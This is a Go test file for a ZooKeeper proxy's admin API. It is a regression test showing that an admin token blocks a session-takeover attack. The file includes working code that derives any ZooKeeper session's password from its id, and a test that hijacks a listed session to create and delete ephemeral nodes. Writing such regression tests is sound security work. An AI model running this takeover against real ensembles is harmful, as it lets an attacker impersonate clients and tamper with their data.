package admin

import (
	"context"
	"encoding/hex"
	"encoding/json"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/go-zookeeper/zk"
	"github.com/prometheus/client_golang/prometheus"

	"github.com/zkproxy/zkproxy/cutover"
	"github.com/zkproxy/zkproxy/cutover/proxyadapter"
	"github.com/zkproxy/zkproxy/internal/testkit/zktest"
	"github.com/zkproxy/zkproxy/jute"
	"github.com/zkproxy/zkproxy/proxy"
)

// javaRandom is java.util.Random: the 48-bit linear congruential generator
// its documentation specifies (seed scrambled with 0x5DEECE66D, next(bits)
// = (seed * 0x5DEECE66D + 0xB) mod 2^48 >> (48 - bits)).
type javaRandom struct{ seed int64 }

const (
	javaMultiplier = 0x5DEECE66D
	javaMask       = 1<<48 - 1
)

func newJavaRandom(seed int64) *javaRandom {
	return &javaRandom{seed: (seed ^ javaMultiplier) & javaMask}
}

func (r *javaRandom) next(bits uint) int32 {
	r.seed = (r.seed*javaMultiplier + 0xB) & javaMask
	return int32(r.seed >> (48 - bits))
}

func (r *javaRandom) nextInt() int32 { return r.next(32) }

// nextBytes fills b as Random.nextBytes does: each int, low byte first.
func (r *javaRandom) nextBytes(b []byte) {
	for i := 0; i < len(b); {
		rnd := r.nextInt()
		for n := min(len(b)-i, 4); n > 0; n-- {
			b[i] = byte(rnd)
			rnd >>= 8
			i++
		}
	}
}

// sessionPassword is the password a ZooKeeper server gives session id:
// ZooKeeperServer.generatePasswd seeds java.util.Random with
// id ^ superSecret (0xB3415C00) and takes 16 bytes (docs/protocol.md
// §2.4). The constant is the same on every server, so the id is the
// credential.
func sessionPassword(id int64) []byte {
	p := make([]byte, 16)
	newJavaRandom(id ^ 0xB3415C00).nextBytes(p)
	return p
}

// TestSessionPassword checks the generator against values a JVM (Java 17)
// printed: new Random(0).nextInt() and the password of one session id.
func TestSessionPassword(t *testing.T) {
	if got := newJavaRandom(0).nextInt(); got != -1155484576 {
		t.Fatalf("new Random(0).nextInt() = %d, want -1155484576", got)
	}
	if got := hex.EncodeToString(sessionPassword(0x100000cba5ca0002)); got != "fea58f77a1c9c0e1b8abe4f4ebe4b472" {
		t.Fatalf("password of 0x100000cba5ca0002 = %s", got)
	}
}

// TestSessionTakeoverThroughAdminAPI reproduces the attack the admin token
// now stops. A client works through zkproxy in front of a 3-member
// ensemble; an attacker who can reach the admin listener reads the
// client's session id from GET /sessions, computes its password as the
// server does, connects straight to another member as that session, creates
// an ephemeral node owned by it and deletes the client's own. With
// admin-token set, the same GET /sessions without the token is refused.
func TestSessionTakeoverThroughAdminAPI(t *testing.T) {
	zktest.RequireIntegration(t)
	ens := zktest.NewEnsemble(t, 3)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	var members []string
	for _, m := range ens.Members {
		members = append(members, m.ClientAddr())
	}

	log := slog.New(slog.DiscardHandler)
	reg := prometheus.NewRegistry()
	p, err := proxy.New(proxy.Config{Source: members}, log, reg)
	if err != nil {
		t.Fatal(err)
	}
	proxyAddr := serveOnLoopback(t, p)
	ctl, err := cutover.NewController(cutover.Config{Source: members, Store: cutover.Store{Dir: t.TempDir()}},
		proxyadapter.New(p, nil), log, reg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ctl.Close)
	adminAPI := func(token string) *httptest.Server {
		h := NewHandler(Options{Token: token, Logger: log})
		RegisterSessions(h, p, nil)
		srv := httptest.NewServer(h)
		t.Cleanup(srv.Close)
		return srv
	}

	// The victim: a client through zkproxy with an ephemeral node, as a
	// Kafka broker registers itself.
	victim := connectThrough(ctx, t, proxyAddr)
	if _, err := victim.Create("/victim", nil, zk.FlagEphemeral, zk.WorldACL(zk.PermAll)); err != nil {
		t.Fatal(err)
	}

	// The attacker reads the session list: no token configured.
	id, onMember := readSession(t, adminAPI("").URL, "")
	if id != victim.SessionID() {
		t.Fatalf("/sessions lists 0x%x, the client's session is 0x%x", id, victim.SessionID())
	}
	var other string
	for _, m := range members {
		if m != onMember {
			other = m
			break
		}
	}
	// A wrong password is refused (the server answers with timeout 0 and
	// closes), so what follows is the computed password at work.
	wrong := sessionPassword(id)
	wrong[0] ^= 0xff
	if c, resp, err := zktest.DialRaw(ctx, other, jute.ConnectRequest{TimeOut: 10000, SessionID: jute.SessionID(id), Passwd: wrong}); err == nil {
		c.Close()
		if resp.TimeOut > 0 {
			t.Fatalf("a wrong password was accepted: %+v", resp)
		}
	}
	attacker, resp, err := zktest.DialRaw(ctx, other, jute.ConnectRequest{TimeOut: 10000, SessionID: jute.SessionID(id), Passwd: sessionPassword(id)})
	if err != nil {
		t.Fatal(err)
	}
	defer attacker.Close()
	if int64(resp.SessionID) != id || resp.TimeOut <= 0 {
		t.Fatalf("member %s refused the computed password: %+v", other, resp)
	}
	world := []jute.ACL{{Perms: jute.PermAll, ID: jute.Id{Scheme: "world", ID: "anyone"}}}
	if h, _, err := attacker.Call(ctx, jute.OpCreate, &jute.CreateRequest{Path: "/attacker", ACL: world, Flags: jute.CreateEphemeral}); err != nil || h.Err != jute.ErrOK {
		t.Fatalf("create as the session: %v %v", h.Err, err)
	}
	if h, _, err := attacker.Call(ctx, jute.OpDelete, &jute.DeleteRequest{Path: "/victim", Version: -1}); err != nil || h.Err != jute.ErrOK {
		t.Fatalf("delete the client's ephemeral node as the session: %v %v", h.Err, err)
	}
	// Seen by an onlooker on another connection: the session owns the
	// attacker's node, and the client's own node is gone.
	onlooker, _, err := zk.Connect(members, 10*time.Second, zk.WithLogger(zktest.QuietLogger{}))
	if err != nil {
		t.Fatal(err)
	}
	defer onlooker.Close()
	if _, st, err := onlooker.Get("/attacker"); err != nil || st.EphemeralOwner != id {
		t.Fatalf("/attacker: owner 0x%x, %v; want the client's session 0x%x", st.EphemeralOwner, err, id)
	}
	if ok, _, err := onlooker.Exists("/victim"); err != nil || ok {
		t.Fatalf("/victim exists %t, %v: the attacker could not delete it", ok, err)
	}
	t.Logf("session 0x%x taken over on %s (the client is on %s) with the id from GET /sessions", id, other, onMember)

	// With admin-token set, the session list needs it.
	guarded := adminAPI("s3cret").URL
	resp2, err := http.Get(guarded + "/sessions")
	if err != nil {
		t.Fatal(err)
	}
	resp2.Body.Close()
	if resp2.StatusCode != http.StatusUnauthorized {
		t.Fatalf("GET /sessions without the token: %s, want 401", resp2.Status)
	}
	if got, _ := readSession(t, guarded, "s3cret"); got != id {
		t.Fatalf("with the token /sessions lists 0x%x, want 0x%x", got, id)
	}
}

// readSession returns the only session GET /sessions lists and its member.
func readSession(t *testing.T, base, token string) (int64, string) {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, base+"/sessions", nil)
	if err != nil {
		t.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var ans struct {
		Sessions []SessionRow `json:"sessions"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&ans); err != nil || resp.StatusCode != http.StatusOK || len(ans.Sessions) != 1 {
		t.Fatalf("GET /sessions: %s, %+v, %v", resp.Status, ans, err)
	}
	id, err := strconv.ParseUint(strings.TrimPrefix(ans.Sessions[0].ID, "0x"), 16, 64)
	if err != nil {
		t.Fatal(err)
	}
	return int64(id), ans.Sessions[0].Member
}
